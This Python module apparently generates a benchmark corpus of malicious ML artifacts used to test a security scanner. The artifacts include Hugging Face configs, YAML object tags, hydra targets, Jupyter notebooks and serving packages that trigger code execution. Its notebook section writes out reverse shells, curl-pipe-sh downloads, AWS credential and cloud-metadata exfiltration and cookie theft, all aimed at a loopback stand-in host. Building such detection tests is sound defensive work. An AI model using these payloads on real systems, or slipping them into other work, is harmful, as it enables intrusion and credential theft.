"""Configuration, notebooks and folders that make a loader fetch, import or run what they name."""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from random import Random
from typing import Any

from bench.scan.corpus.archives import Member, tar, zip_
from bench.scan.corpus.sample import Sample, chance_of, stream
from bench.scan.corpus.weights import GRAY_TEMPLATES, TEMPLATES

Made = Iterator[tuple[str, bytes] | tuple[str, bytes, str]]
TARGETS = {
    "os-system": ("os.system", ["echo pwned"]), "posix": ("posix.system", ["echo pwned"]), "popen": ("subprocess.Popen", [["echo", "pwned"]]), "check-output": ("subprocess.check_output", ["echo pwned"]),
    "eval": ("builtins.eval", ["1"]), "exec": ("builtins.exec", ["1"]), "import-module": ("importlib.import_module", ["pwned"]), "runpy": ("runpy.run_path", ["./pwned.py"]), "pickle": ("pickle.loads", ["x"]),
    "shutil": ("shutil.rmtree", ["./pwned"]), "urlopen": ("urllib.request.urlopen", ["http://127.0.0.1:9/"]), "torch-load": ("torch.load", ["./pwned.pt"]), "joblib": ("joblib.load", ["./pwned.joblib"]),
    "hub-load": ("torch.hub.load", ["pwned/repo", "x"]), "cpp-extension": ("torch.utils.cpp_extension.load_inline", ["x", "int f();"]), "pydoc": ("pydoc.pipepager", ["x", "echo pwned"]), "timeit": ("timeit.timeit", ["1"]),
    "numpy-load": ("numpy.load", ["./pwned.npy"]), "pip": ("pip.main", [["install", "pwned"]]), "webbrowser": ("webbrowser.open", ["http://127.0.0.1:9/"]), "pathlib": ("pathlib.Path.write_text", ["./pwned", "x"]), "dill": ("dill.loads", ["x"]),
    "pandas": ("pandas.read_pickle", ["./pwned.pkl"]), "ctypes": ("ctypes.CDLL", ["./pwned.so"]), "hydra-locate": ("hydra._internal.utils._locate", ["os.system"]), "code": ("code.interact", []), "getattr": ("builtins.getattr", ["os", "system"]),
}  # fmt: skip


def compact(value: Any) -> bytes:
    return json.dumps(value, indent=2).encode()


def hugging_face(chance: Random) -> Made:
    """Files of a Hugging Face folder, each in a folder of its own."""
    config = {
        "model_type": "llama",
        "architectures": ["LlamaForCausalLM"],
        "hidden_size": 64,
        "transformers_version": "5.0.0",
    }
    maps: dict[str, Any] = {
        "auto-map": {"AutoModelForCausalLM": "modeling_pwned.Pwned"}, "auto-map-config": {"AutoConfig": "configuration_pwned.PwnedConfig", "AutoModel": "modeling_pwned.Pwned"},
        "auto-map-other-repo": {"AutoModel": "pwned/repo--modeling.Pwned"}, "auto-map-list": {"AutoTokenizer": ["tokenization_pwned.Slow", "tokenization_pwned.Fast"]}, "auto-map-traversal": {"AutoModel": "../../pwned.Pwned"},
    }  # fmt: skip
    for label, value in maps.items():
        yield f"{label}/config.json", compact({**config, "auto_map": value})
    yield (
        "auto-map-with-code/config.json",
        compact({**config, "auto_map": {"AutoModel": "modeling_pwned.Pwned"}}),
    )
    yield (
        "auto-map-with-code/modeling_pwned.py",
        b"import os\nos.system('echo pwned')\nclass Pwned: ...\n",
        "gray",
    )
    yield (
        "auto-map-nested/config.json",
        compact({**config, "text_config": {"auto_map": {"AutoModel": "x.Y"}}}),
    )
    yield (
        "custom-pipelines/config.json",
        compact({**config, "custom_pipelines": {"pwned": {"impl": "pwned.Pipeline", "pt": ["AutoModel"]}}}),
    )
    yield (
        "tokenizer-auto-map/tokenizer_config.json",
        compact({"tokenizer_class": "X", "auto_map": {"AutoTokenizer": ["t.T", None]}}),
    )
    yield (
        "processor-auto-map/preprocessor_config.json",
        compact({"auto_map": {"AutoImageProcessor": "p.P"}, "image_processor_type": "P"}),
    )
    yield "processor-auto-map/processor_config.json", compact({"auto_map": {"AutoProcessor": "p.P"}})
    yield (
        "generation/custom_generate/generate.py",
        b"import os\ndef generate(model, **k):\n    os.system('echo pwned')\n",
        "gray",
    )
    yield "trust-remote-code/config.json", compact({**config, "trust_remote_code": True}), "gray"
    yield "attn-kernel/config.json", compact({**config, "_attn_implementation": "pwned/kernels"}), "gray"
    yield (
        "base-model-traversal/adapter_config.json",
        compact(
            {
                "peft_type": "LORA",
                "base_model_name_or_path": "../../../pwned",
                "auto_mapping": {"parent_library": "pwned", "base_model_class": "X"},
            }
        ),
    )
    yield (
        "modules/modules.json",
        compact(
            [
                {"idx": 0, "name": "0", "path": "", "type": "os.system"},
                {"idx": 1, "name": "1", "path": "p", "type": "pwned.Pooling"},
            ]
        ),
    )
    yield "modules-eval/modules.json", compact([{"idx": 0, "name": "0", "path": "", "type": "builtins.eval"}])
    yield (
        "diffusers/model_index.json",
        compact(
            {
                "_class_name": ["pipeline_pwned", "Pwned"],
                "_diffusers_version": "0.30.0",
                "unet": ["pwned", "Unet"],
            }
        ),
    )
    yield (
        "diffusers-module/model_index.json",
        compact({"_class_name": "X", "_module": "pwned.py", "vae": ["subprocess", "Popen"]}),
    )
    for label, place in {
        "parent": "../../pwned.bin",
        "absolute": "/etc/passwd",
        "url": "http://127.0.0.1:9/x.bin",
        "backslash": "..\\..\\x.bin",
        "deep": "a/../../../x.bin",
    }.items():
        yield (
            f"index-{label}/model.safetensors.index.json",
            compact({"metadata": {"total_size": 4}, "weight_map": {"w": place}}),
        )
        yield (
            f"bin-index-{label}/pytorch_model.bin.index.json",
            compact({"metadata": {}, "weight_map": {"a": "ok.bin", "b": place}}),
        )
    names = sorted(TEMPLATES)
    chance.shuffle(names)
    for label in names[:30]:
        tier = "gray" if label in GRAY_TEMPLATES else "core"
        way = chance.randrange(4)
        if way == 0:
            yield f"template-{label}/chat_template.jinja", TEMPLATES[label].encode(), tier
        elif way == 1:
            yield f"template-{label}/chat_template.json", compact({"chat_template": TEMPLATES[label]}), tier
        elif way == 2:
            named = [
                {"name": "default", "template": "{{ messages }}"},
                {"name": "tool_use", "template": TEMPLATES[label]},
            ]
            yield (
                f"template-{label}/tokenizer_config.json",
                compact({"tokenizer_class": "PreTrainedTokenizerFast", "chat_template": named}),
                tier,
            )
        else:
            yield (
                f"template-{label}/tokenizer_config.json",
                compact({"tokenizer_class": "LlamaTokenizer", "chat_template": TEMPLATES[label]}),
                tier,
            )
    yield "additional/additional_chat_templates/tool.jinja", TEMPLATES["lipsum"].encode()
    yield (
        "requirements/requirements.txt",
        b"--index-url http://127.0.0.1:9/simple\n--trusted-host 127.0.0.1\npwned==1.0\n",
    )
    yield (
        "requirements-extra-index/requirements.txt",
        b"torch\n--extra-index-url http://127.0.0.1:9/simple\ninternal-models>=1\n",
        "gray",
    )
    yield (
        "requirements-direct/requirements.txt",
        b"pwned @ git+http://127.0.0.1:9/x.git\n-e ./pwned\n",
        "gray",
    )
    yield "conda/conda.yaml", b"dependencies:\n- pip:\n  - --index-url http://127.0.0.1:9/simple\n  - pwned\n"
    yield (
        "setup/setup.py",
        b"from setuptools import setup\nimport os\nos.system('echo pwned')\nsetup(name='x')\n",
        "gray",
    )
    yield (
        "handler/handler.py",
        b"import subprocess\nclass EndpointHandler:\n    def __init__(self, path=''):\n        subprocess.run('echo pwned', shell=True)\n",
        "gray",
    )


def yaml_(chance: Random) -> Made:
    """YAML tags that construct Python objects, and hydra or NeMo targets."""
    tags = {
        "apply": "!!python/object/apply:os.system ['echo pwned']", "apply-args": "!!python/object/apply:subprocess.Popen\nargs: [[echo, pwned]]\n", "new": "!!python/object/new:subprocess.Popen [[echo, pwned]]",
        "new-type": "!!python/object/new:type\nargs: ['x', !!python/tuple [], {'extend': !!python/name:exec }]\nlistitems: 'print(1)'\n", "new-map": "!!python/object/new:tuple\n- !!python/object/new:map\n  - !!python/name:eval\n  - ['1']\n",
        "object": "!!python/object:pwned.Model {a: 1}", "module": "!!python/module:pwned", "name": "x: !!python/name:os.system", "full-tag": "!<tag:yaml.org,2002:python/object/apply:os.system> ['echo pwned']",
        "percent-tag": "%TAG !p! tag:yaml.org,2002:python/\n---\n!p!object/apply:os.system ['echo pwned']\n", "escaped-tag": "!!python/object%2Fapply:os.system ['echo pwned']", "deep": "a:\n  b:\n    - c: {d: [!!python/object/apply:os.popen ['echo pwned']]}\n",
        "key": "? !!python/object/apply:os.system ['echo pwned']\n: 1\n", "second-document": "a: 1\n---\nb: !!python/object/apply:os.system ['echo pwned']\n", "anchor": "a: &x !!python/object/apply:os.system ['echo pwned']\nb: *x\n", "merge": "<<: !!python/object/apply:builtins.dict [{a: 1}]\nb: !!python/object/apply:os.getenv [HOME]\n",
        "ruby": "--- !ruby/object:Gem::Installer\ni: x\n", "java": "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://127.0.0.1:9/']]]]", "numpy": "!!python/object/apply:numpy.core.multiarray.scalar [!!python/object/apply:os.system ['echo pwned']]",
    }  # fmt: skip
    for label, text in tags.items():
        yield (
            f"tag-{label}.{chance.choice(('yaml', 'yml', 'yaml', 'txt', 'conf'))}",
            text.encode() + b"\n",
            "gray" if label in ("ruby", "java") else "core",
        )
    yield (
        "billion-laughs.yaml",
        b"a: &a [x,x,x,x,x,x,x,x,x]\n"
        + b"".join(
            b"%c: &%c [%s]\n" % (98 + i, 98 + i, b",".join([b"*%c" % (97 + i)] * 9)) for i in range(12)
        ),
        "gray",
    )
    for label, (target, arguments) in TARGETS.items():
        way = chance.randrange(5)
        flow = json.dumps(arguments)
        if way == 0:
            yield (
                f"hydra-{label}.yaml",
                f"model:\n  hidden: 4\n  callback:\n    _target_: {target}\n    _args_: {flow}\n".encode(),
            )
        elif way == 1:
            yield (
                f"hydra-{label}.json",
                compact({"trainer": {"_target_": target, "_args_": arguments, "_partial_": False}}),
            )
        elif way == 2:
            yield (
                f"hydra-{label}.yaml",
                f'defaults: [a]\nx: [{{"_target_": "{target}", "_args_": {flow}}}]\n'.encode(),
            )
        elif way == 3:
            yield (
                f"nemo-{label}.nemo",
                tar(
                    [
                        (
                            "./model_config.yaml",
                            f"cfg:\n  tokenizer:\n    _target_: {target}\n    _args_: {flow}\n".encode(),
                        ),
                        ("./model_weights.ckpt", b""),
                    ],
                    chance.choice(("w", "w:gz")),
                ),
            )
        else:
            yield (
                f"hydra-{label}.yaml",
                f"optim:\n  '_target_' : \"{target}\"\n  _convert_: all\n  _args_: {flow}\n".encode(),
            )
    yield "hydra-get-method.yaml", b"f:\n  _target_: hydra.utils.get_method\n  path: os.system\n"
    yield "hydra-get-class.yaml", b"f:\n  _target_: hydra.utils.get_class\n  path: subprocess.Popen\n"
    yield (
        "hydra-call-nested.yaml",
        b"f:\n  _target_: hydra.utils.call\n  config:\n    _target_: os.system\n    _args_: [echo pwned]\n",
    )
    yield "hydra-interpolation.yaml", b"a: os\nf:\n  _target_: ${a}.system\n  _args_: [echo pwned]\n"
    yield "hydra-unknown-package.yaml", b"f:\n  _target_: pwned.models.Net\n", "gray"
    yield (
        "lightning-class-path.yaml",
        b"model:\n  class_path: subprocess.Popen\n  init_args:\n    args: echo pwned\n",
    )
    yield "omegaconf-env.yaml", b"a: ${oc.env:AWS_SECRET_ACCESS_KEY}\nb: ${oc.decode:x}\n", "gray"
    yield (
        "nemo-weights-pickle.nemo",
        tar([("./model_config.yaml", b"cfg: {}\n"), ("./model_weights.ckpt", stream(chance))], "w:gz"),
    )
    yield (
        "nemo-pickle-artifact.nemo",
        tar([("./model_config.yaml", b"cfg: {}\n"), ("./vocab.txt", stream(chance))]),
    )
    yield "nemo-traversal.nemo", tar([("../../x.yaml", b"a: 1\n"), ("./model_config.yaml", b"cfg: {}\n")])
    yield "nemo-link.nemo", tar([("./model_config.yaml", b"cfg: {}\n")], links=[("./w", "/etc/passwd")])
    yield (
        "spacy-config.cfg",
        b'[nlp.tokenizer]\n@tokenizers = "x"\n[components.x]\nfactory = "pwned"\n[initialize.before_init]\n@callbacks = "os.system"\n',
        "gray",
    )


def notebook(cells: list[dict[str, Any]], **metadata: Any) -> bytes:
    """A Jupyter notebook."""
    return compact(
        {
            "cells": cells,
            "metadata": {
                "kernelspec": {"name": "python3", "language": "python", "display_name": "Python 3"},
                **metadata,
            },
            "nbformat": 4,
            "nbformat_minor": 5,
        }
    )


def code(*lines: str, outputs: list[Any] | None = None) -> dict[str, Any]:
    """A code cell."""
    return {
        "cell_type": "code",
        "id": "a",
        "execution_count": None,
        "metadata": {},
        "outputs": outputs or [],
        "source": [line + "\n" for line in lines],
    }


def notebooks(_: Random) -> Made:
    """Cells and outputs that run something nobody sees."""
    lines = {
        "curl-pipe-shell": "!curl -s http://127.0.0.1:9/x.sh | sh", "system": "import os; os.system('curl http://127.0.0.1:9/$(cat ~/.aws/credentials | base64)')", "base64-exec": f"exec(__import__('base64').b64decode('{base64.b64encode(b'print(1)').decode()}'))",
        "bash-magic": "%%bash\nbash -i >& /dev/tcp/127.0.0.1/9 0>&1", "sx-magic": "%sx wget -qO- http://127.0.0.1:9/x | bash", "pip-index": "!pip install --index-url http://127.0.0.1:9/simple pwned", "metadata-service": "import requests; requests.post('http://127.0.0.1:9', requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/').text)",
        "token": "open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()", "reverse-shell": "import socket,subprocess,os;s=socket.socket();s.connect(('127.0.0.1',9));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])", "get-ipython": "get_ipython().system('curl http://127.0.0.1:9/x | sh')",
    }  # fmt: skip
    for label, line in lines.items():
        yield (
            f"cell-{label}.ipynb",
            notebook([code("import torch"), code(line)]),
            "gray" if label == "token" else "core",
        )
    script = {
        "output_type": "display_data",
        "metadata": {},
        "data": {"text/html": ["<script>fetch('http://127.0.0.1:9/?c='+document.cookie)</script>"]},
    }
    yield (
        "output-script.ipynb",
        notebook([code("x", outputs=[script])]),
        "gray",
    )  # shown only where the notebook is trusted
    javascript = {
        "output_type": "display_data",
        "metadata": {},
        "data": {
            "application/javascript": "Jupyter.notebook.kernel.execute('import os; os.system(\"echo pwned\")')"
        },
    }
    yield "output-javascript.ipynb", notebook([code("x", outputs=[javascript])])
    svg = {
        "output_type": "display_data",
        "metadata": {},
        "data": {"image/svg+xml": "<svg onload=\"fetch('http://127.0.0.1:9')\"/>"},
    }
    yield (
        "output-svg.ipynb",
        notebook([code("x", outputs=[svg])]),
        "gray",
    )  # shown only where the notebook is trusted
    yield (
        "markdown-handler.ipynb",
        notebook(
            [
                {
                    "cell_type": "markdown",
                    "id": "b",
                    "metadata": {},
                    "source": ["<img src=x onerror=\"fetch('http://127.0.0.1:9')\">"],
                }
            ]
        ),
        "gray",
    )


def packages(chance: Random) -> Made:
    """Folders and archives that serving tools load code from."""
    yield (
        "mlflow-python/MLmodel",
        b"flavors:\n  python_function:\n    loader_module: pwned_loader\n    code: code\n    python_version: 3.11.0\n",
    )
    yield "mlflow-os/MLmodel", b"flavors:\n  python_function:\n    loader_module: os\n    data: model.pkl\n"
    yield (
        "mlflow-traversal/MLmodel",
        b"flavors:\n  sklearn:\n    pickled_model: ../../../pwned.pkl\n    serialization_format: cloudpickle\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: ../../x.pkl\n",
    )
    yield "mlflow-pickle/model.pkl", stream(chance)
    yield "mlflow-python-model/python_model.pkl", stream(chance)
    manifest: dict[str, Any] = {
        "runtime": "python",
        "model": {
            "modelName": "m",
            "serializedFile": "model.pt",
            "handler": "handler.py",
            "modelVersion": "1",
        },
        "archiverVersion": "0.9",
    }
    bad_handler = b"import os\nos.system('echo pwned')\ndef handle(d, c): return d\n"
    yield (
        "handler-code.mar",
        zip_(
            [
                Member("MAR-INF/MANIFEST.json", compact(manifest)),
                Member("handler.py", bad_handler),
                Member("model.pt", b""),
            ]
        ),
    )
    yield (
        "handler-pickle.mar",
        zip_([Member("MAR-INF/MANIFEST.json", compact(manifest)), Member("model.pt", stream(chance))]),
    )
    yield (
        "handler-traversal.mar",
        zip_(
            [
                Member(
                    "MAR-INF/MANIFEST.json",
                    compact({**manifest, "model": {**manifest["model"], "handler": "../../x.py:run"}}),
                ),
                Member("a", b""),
            ]
        ),
    )
    yield (
        "handler-requirements.mar",
        zip_(
            [
                Member(
                    "MAR-INF/MANIFEST.json",
                    compact({**manifest, "model": {**manifest["model"], "requirementsFile": "r.txt"}}),
                ),
                Member("r.txt", b"--index-url http://127.0.0.1:9/simple\npwned\n"),
            ]
        ),
        "gray",
    )
    layer = tar([("opt/models/weights.bin", stream(chance))], "w:gz")
    yield "oci-layer.tar.gz", layer
    digest = "0" * 64
    yield (
        "oci-layout.tar",
        tar(
            [
                ("oci-layout", b'{"imageLayoutVersion": "1.0.0"}'),
                (
                    "index.json",
                    compact(
                        {
                            "schemaVersion": 2,
                            "manifests": [
                                {
                                    "mediaType": "application/vnd.oci.image.manifest.v1+json",
                                    "digest": f"sha256:{digest}",
                                    "size": 2,
                                }
                            ],
                        }
                    ),
                ),
                (f"blobs/sha256/{digest}", layer),
            ]
        ),
    )
    yield "oci-whiteout.tar", tar([("m/.wh.config.json", b""), ("m/w.pkl", stream(chance))])
    yield (
        "oci-kitfile.tar",
        tar([("Kitfile", b"manifestVersion: 1.0.0\nmodel:\n  path: ./m.pkl\n"), ("m.pkl", stream(chance))]),
    )
    yield (
        "docker-save.tar",
        tar(
            [
                ("manifest.json", compact([{"Config": "c.json", "Layers": ["a/layer.tar"]}])),
                ("c.json", b"{}"),
                ("a/layer.tar", tar([("srv/model.joblib", stream(chance))])),
            ]
        ),
    )
    node = {
        "__class__": "MethodNode",
        "__module__": "builtins",
        "__loader__": "MethodNode",
        "content": {
            "func": "system",
            "obj": {"__class__": "module", "__module__": "os", "__loader__": "TypeNode"},
        },
    }
    schemas: dict[str, Any] = {
        "method": node,
        "function": {"__class__": "function", "__module__": "builtins", "__loader__": "FunctionNode", "content": {"module_path": "os", "function": "system"}},
        "function-eval": {"__class__": "builtin_function_or_method", "__module__": "builtins", "__loader__": "FunctionNode", "content": "eval"},
        "type": {"__class__": "Popen", "__module__": "subprocess", "__loader__": "TypeNode"},
        "object": {"__class__": "Popen", "__module__": "subprocess", "__loader__": "ObjectNode", "content": {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "content": {}}},
        "partial": {"__class__": "partial", "__module__": "functools", "__loader__": "PartialNode", "content": {"func": {"__class__": "system", "__module__": "os", "__loader__": "FunctionNode", "content": "system"}, "args": [], "kwds": {}, "namespace": None}},
        "operator": {"__class__": "methodcaller", "__module__": "operator", "__loader__": "OperatorFuncNode", "attrs": {"__class__": "tuple", "__loader__": "TupleNode", "content": []}},
        "reduce": {"__class__": "X", "__module__": "pwned", "__loader__": "ReduceNode", "__reduce__": {"args": ["echo pwned"]}, "content": {}},
        "json-loader-lie": {"__class__": "system", "__module__": "os", "__loader__": "JsonNode", "content": "1"},
        "object-file": {"__class__": "ndarray", "__module__": "numpy", "__loader__": "NdArrayNode", "type": "numpy", "file": "../../../etc/passwd"},
    }  # fmt: skip
    for label, schema in schemas.items():
        whole = {**schema, "protocol": 2, "_skops_version": "0.11"}
        harmless = label in ("json-loader-lie", "object-file")  # told as what skops then does not do
        yield f"{label}.skops", zip_([Member("schema.json", compact(whole))]), "gray" if harmless else "core"
    yield (
        "pickle-along.skops",
        zip_(
            [
                Member(
                    "schema.json",
                    b'{"protocol": 2, "__loader__": "DictNode", "__class__": "dict", "__module__": "builtins", "content": {}}',
                ),
                Member(
                    "0.npy",
                    b"\x93NUMPY\1\0"
                    b"\x40\0"
                    + b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(63)
                    + b"\n"
                    + stream(chance),
                ),
            ]
        ),
    )
    yield (
        "xgboost-model.json",
        compact(
            {
                "learner": {
                    "attributes": {"scikit_learn": '{"__reduce__": 1}'},
                    "objective": {"name": "os.system"},
                },
                "version": [3, 0, 0],
            }
        ),
        "gray",
    )
    yield (
        "llamafile",
        b"MZqFpD='\n"
        + b"\0" * 64
        + b"\nexit\n"
        + zip_(
            [Member(".args", b"-m\n/zip/m.gguf\n--eval\n"), Member("m.gguf", b"GGUF\3\0\0\0" + b"\0" * 16)]
        ),
        "gray",
    )
    yield "script-as-weights.bin", b"#!/bin/sh\ncurl -s http://127.0.0.1:9/x | sh\n"
    yield (
        "elf-as-weights.safetensors",
        b"\x7fELF\x02\x01\x01\0" + b"\0" * 8 + b"\x02\0\x3e\0\1\0\0\0" + b"\0" * 100,
    )
    yield (
        "pe-as-weights.pt",
        b"MZ" + b"\0" * 58 + b"\x80\0\0\0" + b"\0" * 64 + b"PE\0\0\x64\x86" + b"\0" * 100,
    )
    yield "macho-as-weights.ckpt", b"\xcf\xfa\xed\xfe\x07\0\0\x01" + b"\0" * 100
    yield "python-as-weights.bin", b"import os\nos.system('echo pwned')\n", "gray"
    yield "pyc-as-weights.bin", b"\xa7\x0d\x0d\x0a" + b"\0" * 12 + b"\xe3" + b"\0" * 40, "gray"


def samples(seed: int) -> Iterator[Sample]:
    """Every text and package."""
    for group, family in (
        (hugging_face, "config"),
        (yaml_, "yaml"),
        (notebooks, "notebook"),
        (packages, "package"),
    ):
        for made in group(chance_of(seed, f"texts:{family}")):
            tier = made[2] if len(made) == 3 else "core"
            yield Sample(f"texts/{family}/{made[0]}", made[1], f"{family}:{made[0]}", family, tier)
